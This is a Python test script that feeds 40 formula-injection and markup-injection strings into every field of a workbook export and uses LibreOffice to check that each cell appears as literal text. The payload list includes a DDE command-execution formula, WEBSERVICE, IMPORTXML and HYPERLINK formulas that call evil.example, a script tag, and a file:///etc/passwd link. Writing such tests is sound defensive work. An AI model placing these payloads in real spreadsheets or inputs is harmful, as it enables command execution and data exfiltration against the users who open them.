"""40 hostile texts in every field of every row, scored into a workbook, opened by LibreOffice, and compared.

`python experiments/0023-workbook/hostile.py FOLDER`: every cell that LibreOffice shows is the text that was written.
"""

import csv
import subprocess
import sys
from pathlib import Path

from syto.stages.score import score
from syto.tables.formats import open_table
from syto.tables.json_lines import JSON_LINES
from syto.tables.table import Layout

HOSTILE = (
    *(
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1,1)",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example","x")',
        "{=1+1}",
    ),
    *(
        '=WEBSERVICE("http://evil.example")',
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "'=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
    ),
    *('=DDE("a";"b";"c")', "of:=1+1", '=IMPORTXML("http://evil.example","//a")', "1e5", "007", "TRUE", "1/2"),
    *(
        "<script>alert(1)</script>",
        "<f>1+1</f>",
        "]]></t></is><f>1+1</f>",
        "&lt;f&gt;",
        "_x003D_1+1",
        "\u202e1+1=\u202c",
    ),
    *(
        "javascript:alert(1)",
        "file:///etc/passwd",
        "\\\\evil.example\\share",
        "mailto:a@evil.example",
        "{{7*7}}",
        "${7*7}",
    ),
    *("\x00\x01\x0b\x1b[31m", "\ud83d", "\ufffe\uffff", '"";=1+1;""'),
)
FIELDS = ("id", "title", "text", "url", "source", "published", "=cmd|' /C calc'!A0", "<b>")


def main(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    body = "Верховна Рада ухвалила закон про бюджет, повідомив спікер парламенту. Уряд подасть зміни восени."
    rows = [{field: text + (f" {body}" if field == "text" else "") for field in FIELDS} for text in HOSTILE]
    source = folder / "hostile.jsonl"
    JSON_LINES.write(source, Layout(FIELDS, {}), rows)
    book = folder / "hostile.xlsx"
    score(str(source), str(book), overwrite=True, lang="uk")
    check(book, folder)


def check(book: Path, folder: Path) -> None:
    """Compare each cell of each sheet with what LibreOffice makes of it."""
    for number, title in enumerate(("Статті", "Джерела", "Пояснення"), start=1):
        out = f"csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,{number}"
        subprocess.run(
            ["soffice", "--headless", "--convert-to", out, "--outdir", folder, book],
            check=True,
            capture_output=True,
        )
        with (folder / f"hostile-{title}.csv").open(encoding="utf-8", newline="") as file:
            names, *shown = list(csv.reader(file))
        written = list(open_table(book, sheet=number).rows())
        unlike = 0
        for row, cells in zip(written, shown, strict=False):
            for name, said, cell in zip(names, row.values.values(), cells, strict=False):
                if isinstance(said, str) and "".join(said.split()) != "".join(cell.split()):
                    unlike += 1
                    print(title, row.number, repr(name), repr(said[:60]), repr(cell[:60]))
        print(f"{title}: {len(written)} rows, {len(shown)} shown, {unlike} cells unlike")


if __name__ == "__main__":
    main(Path(sys.argv[1]))
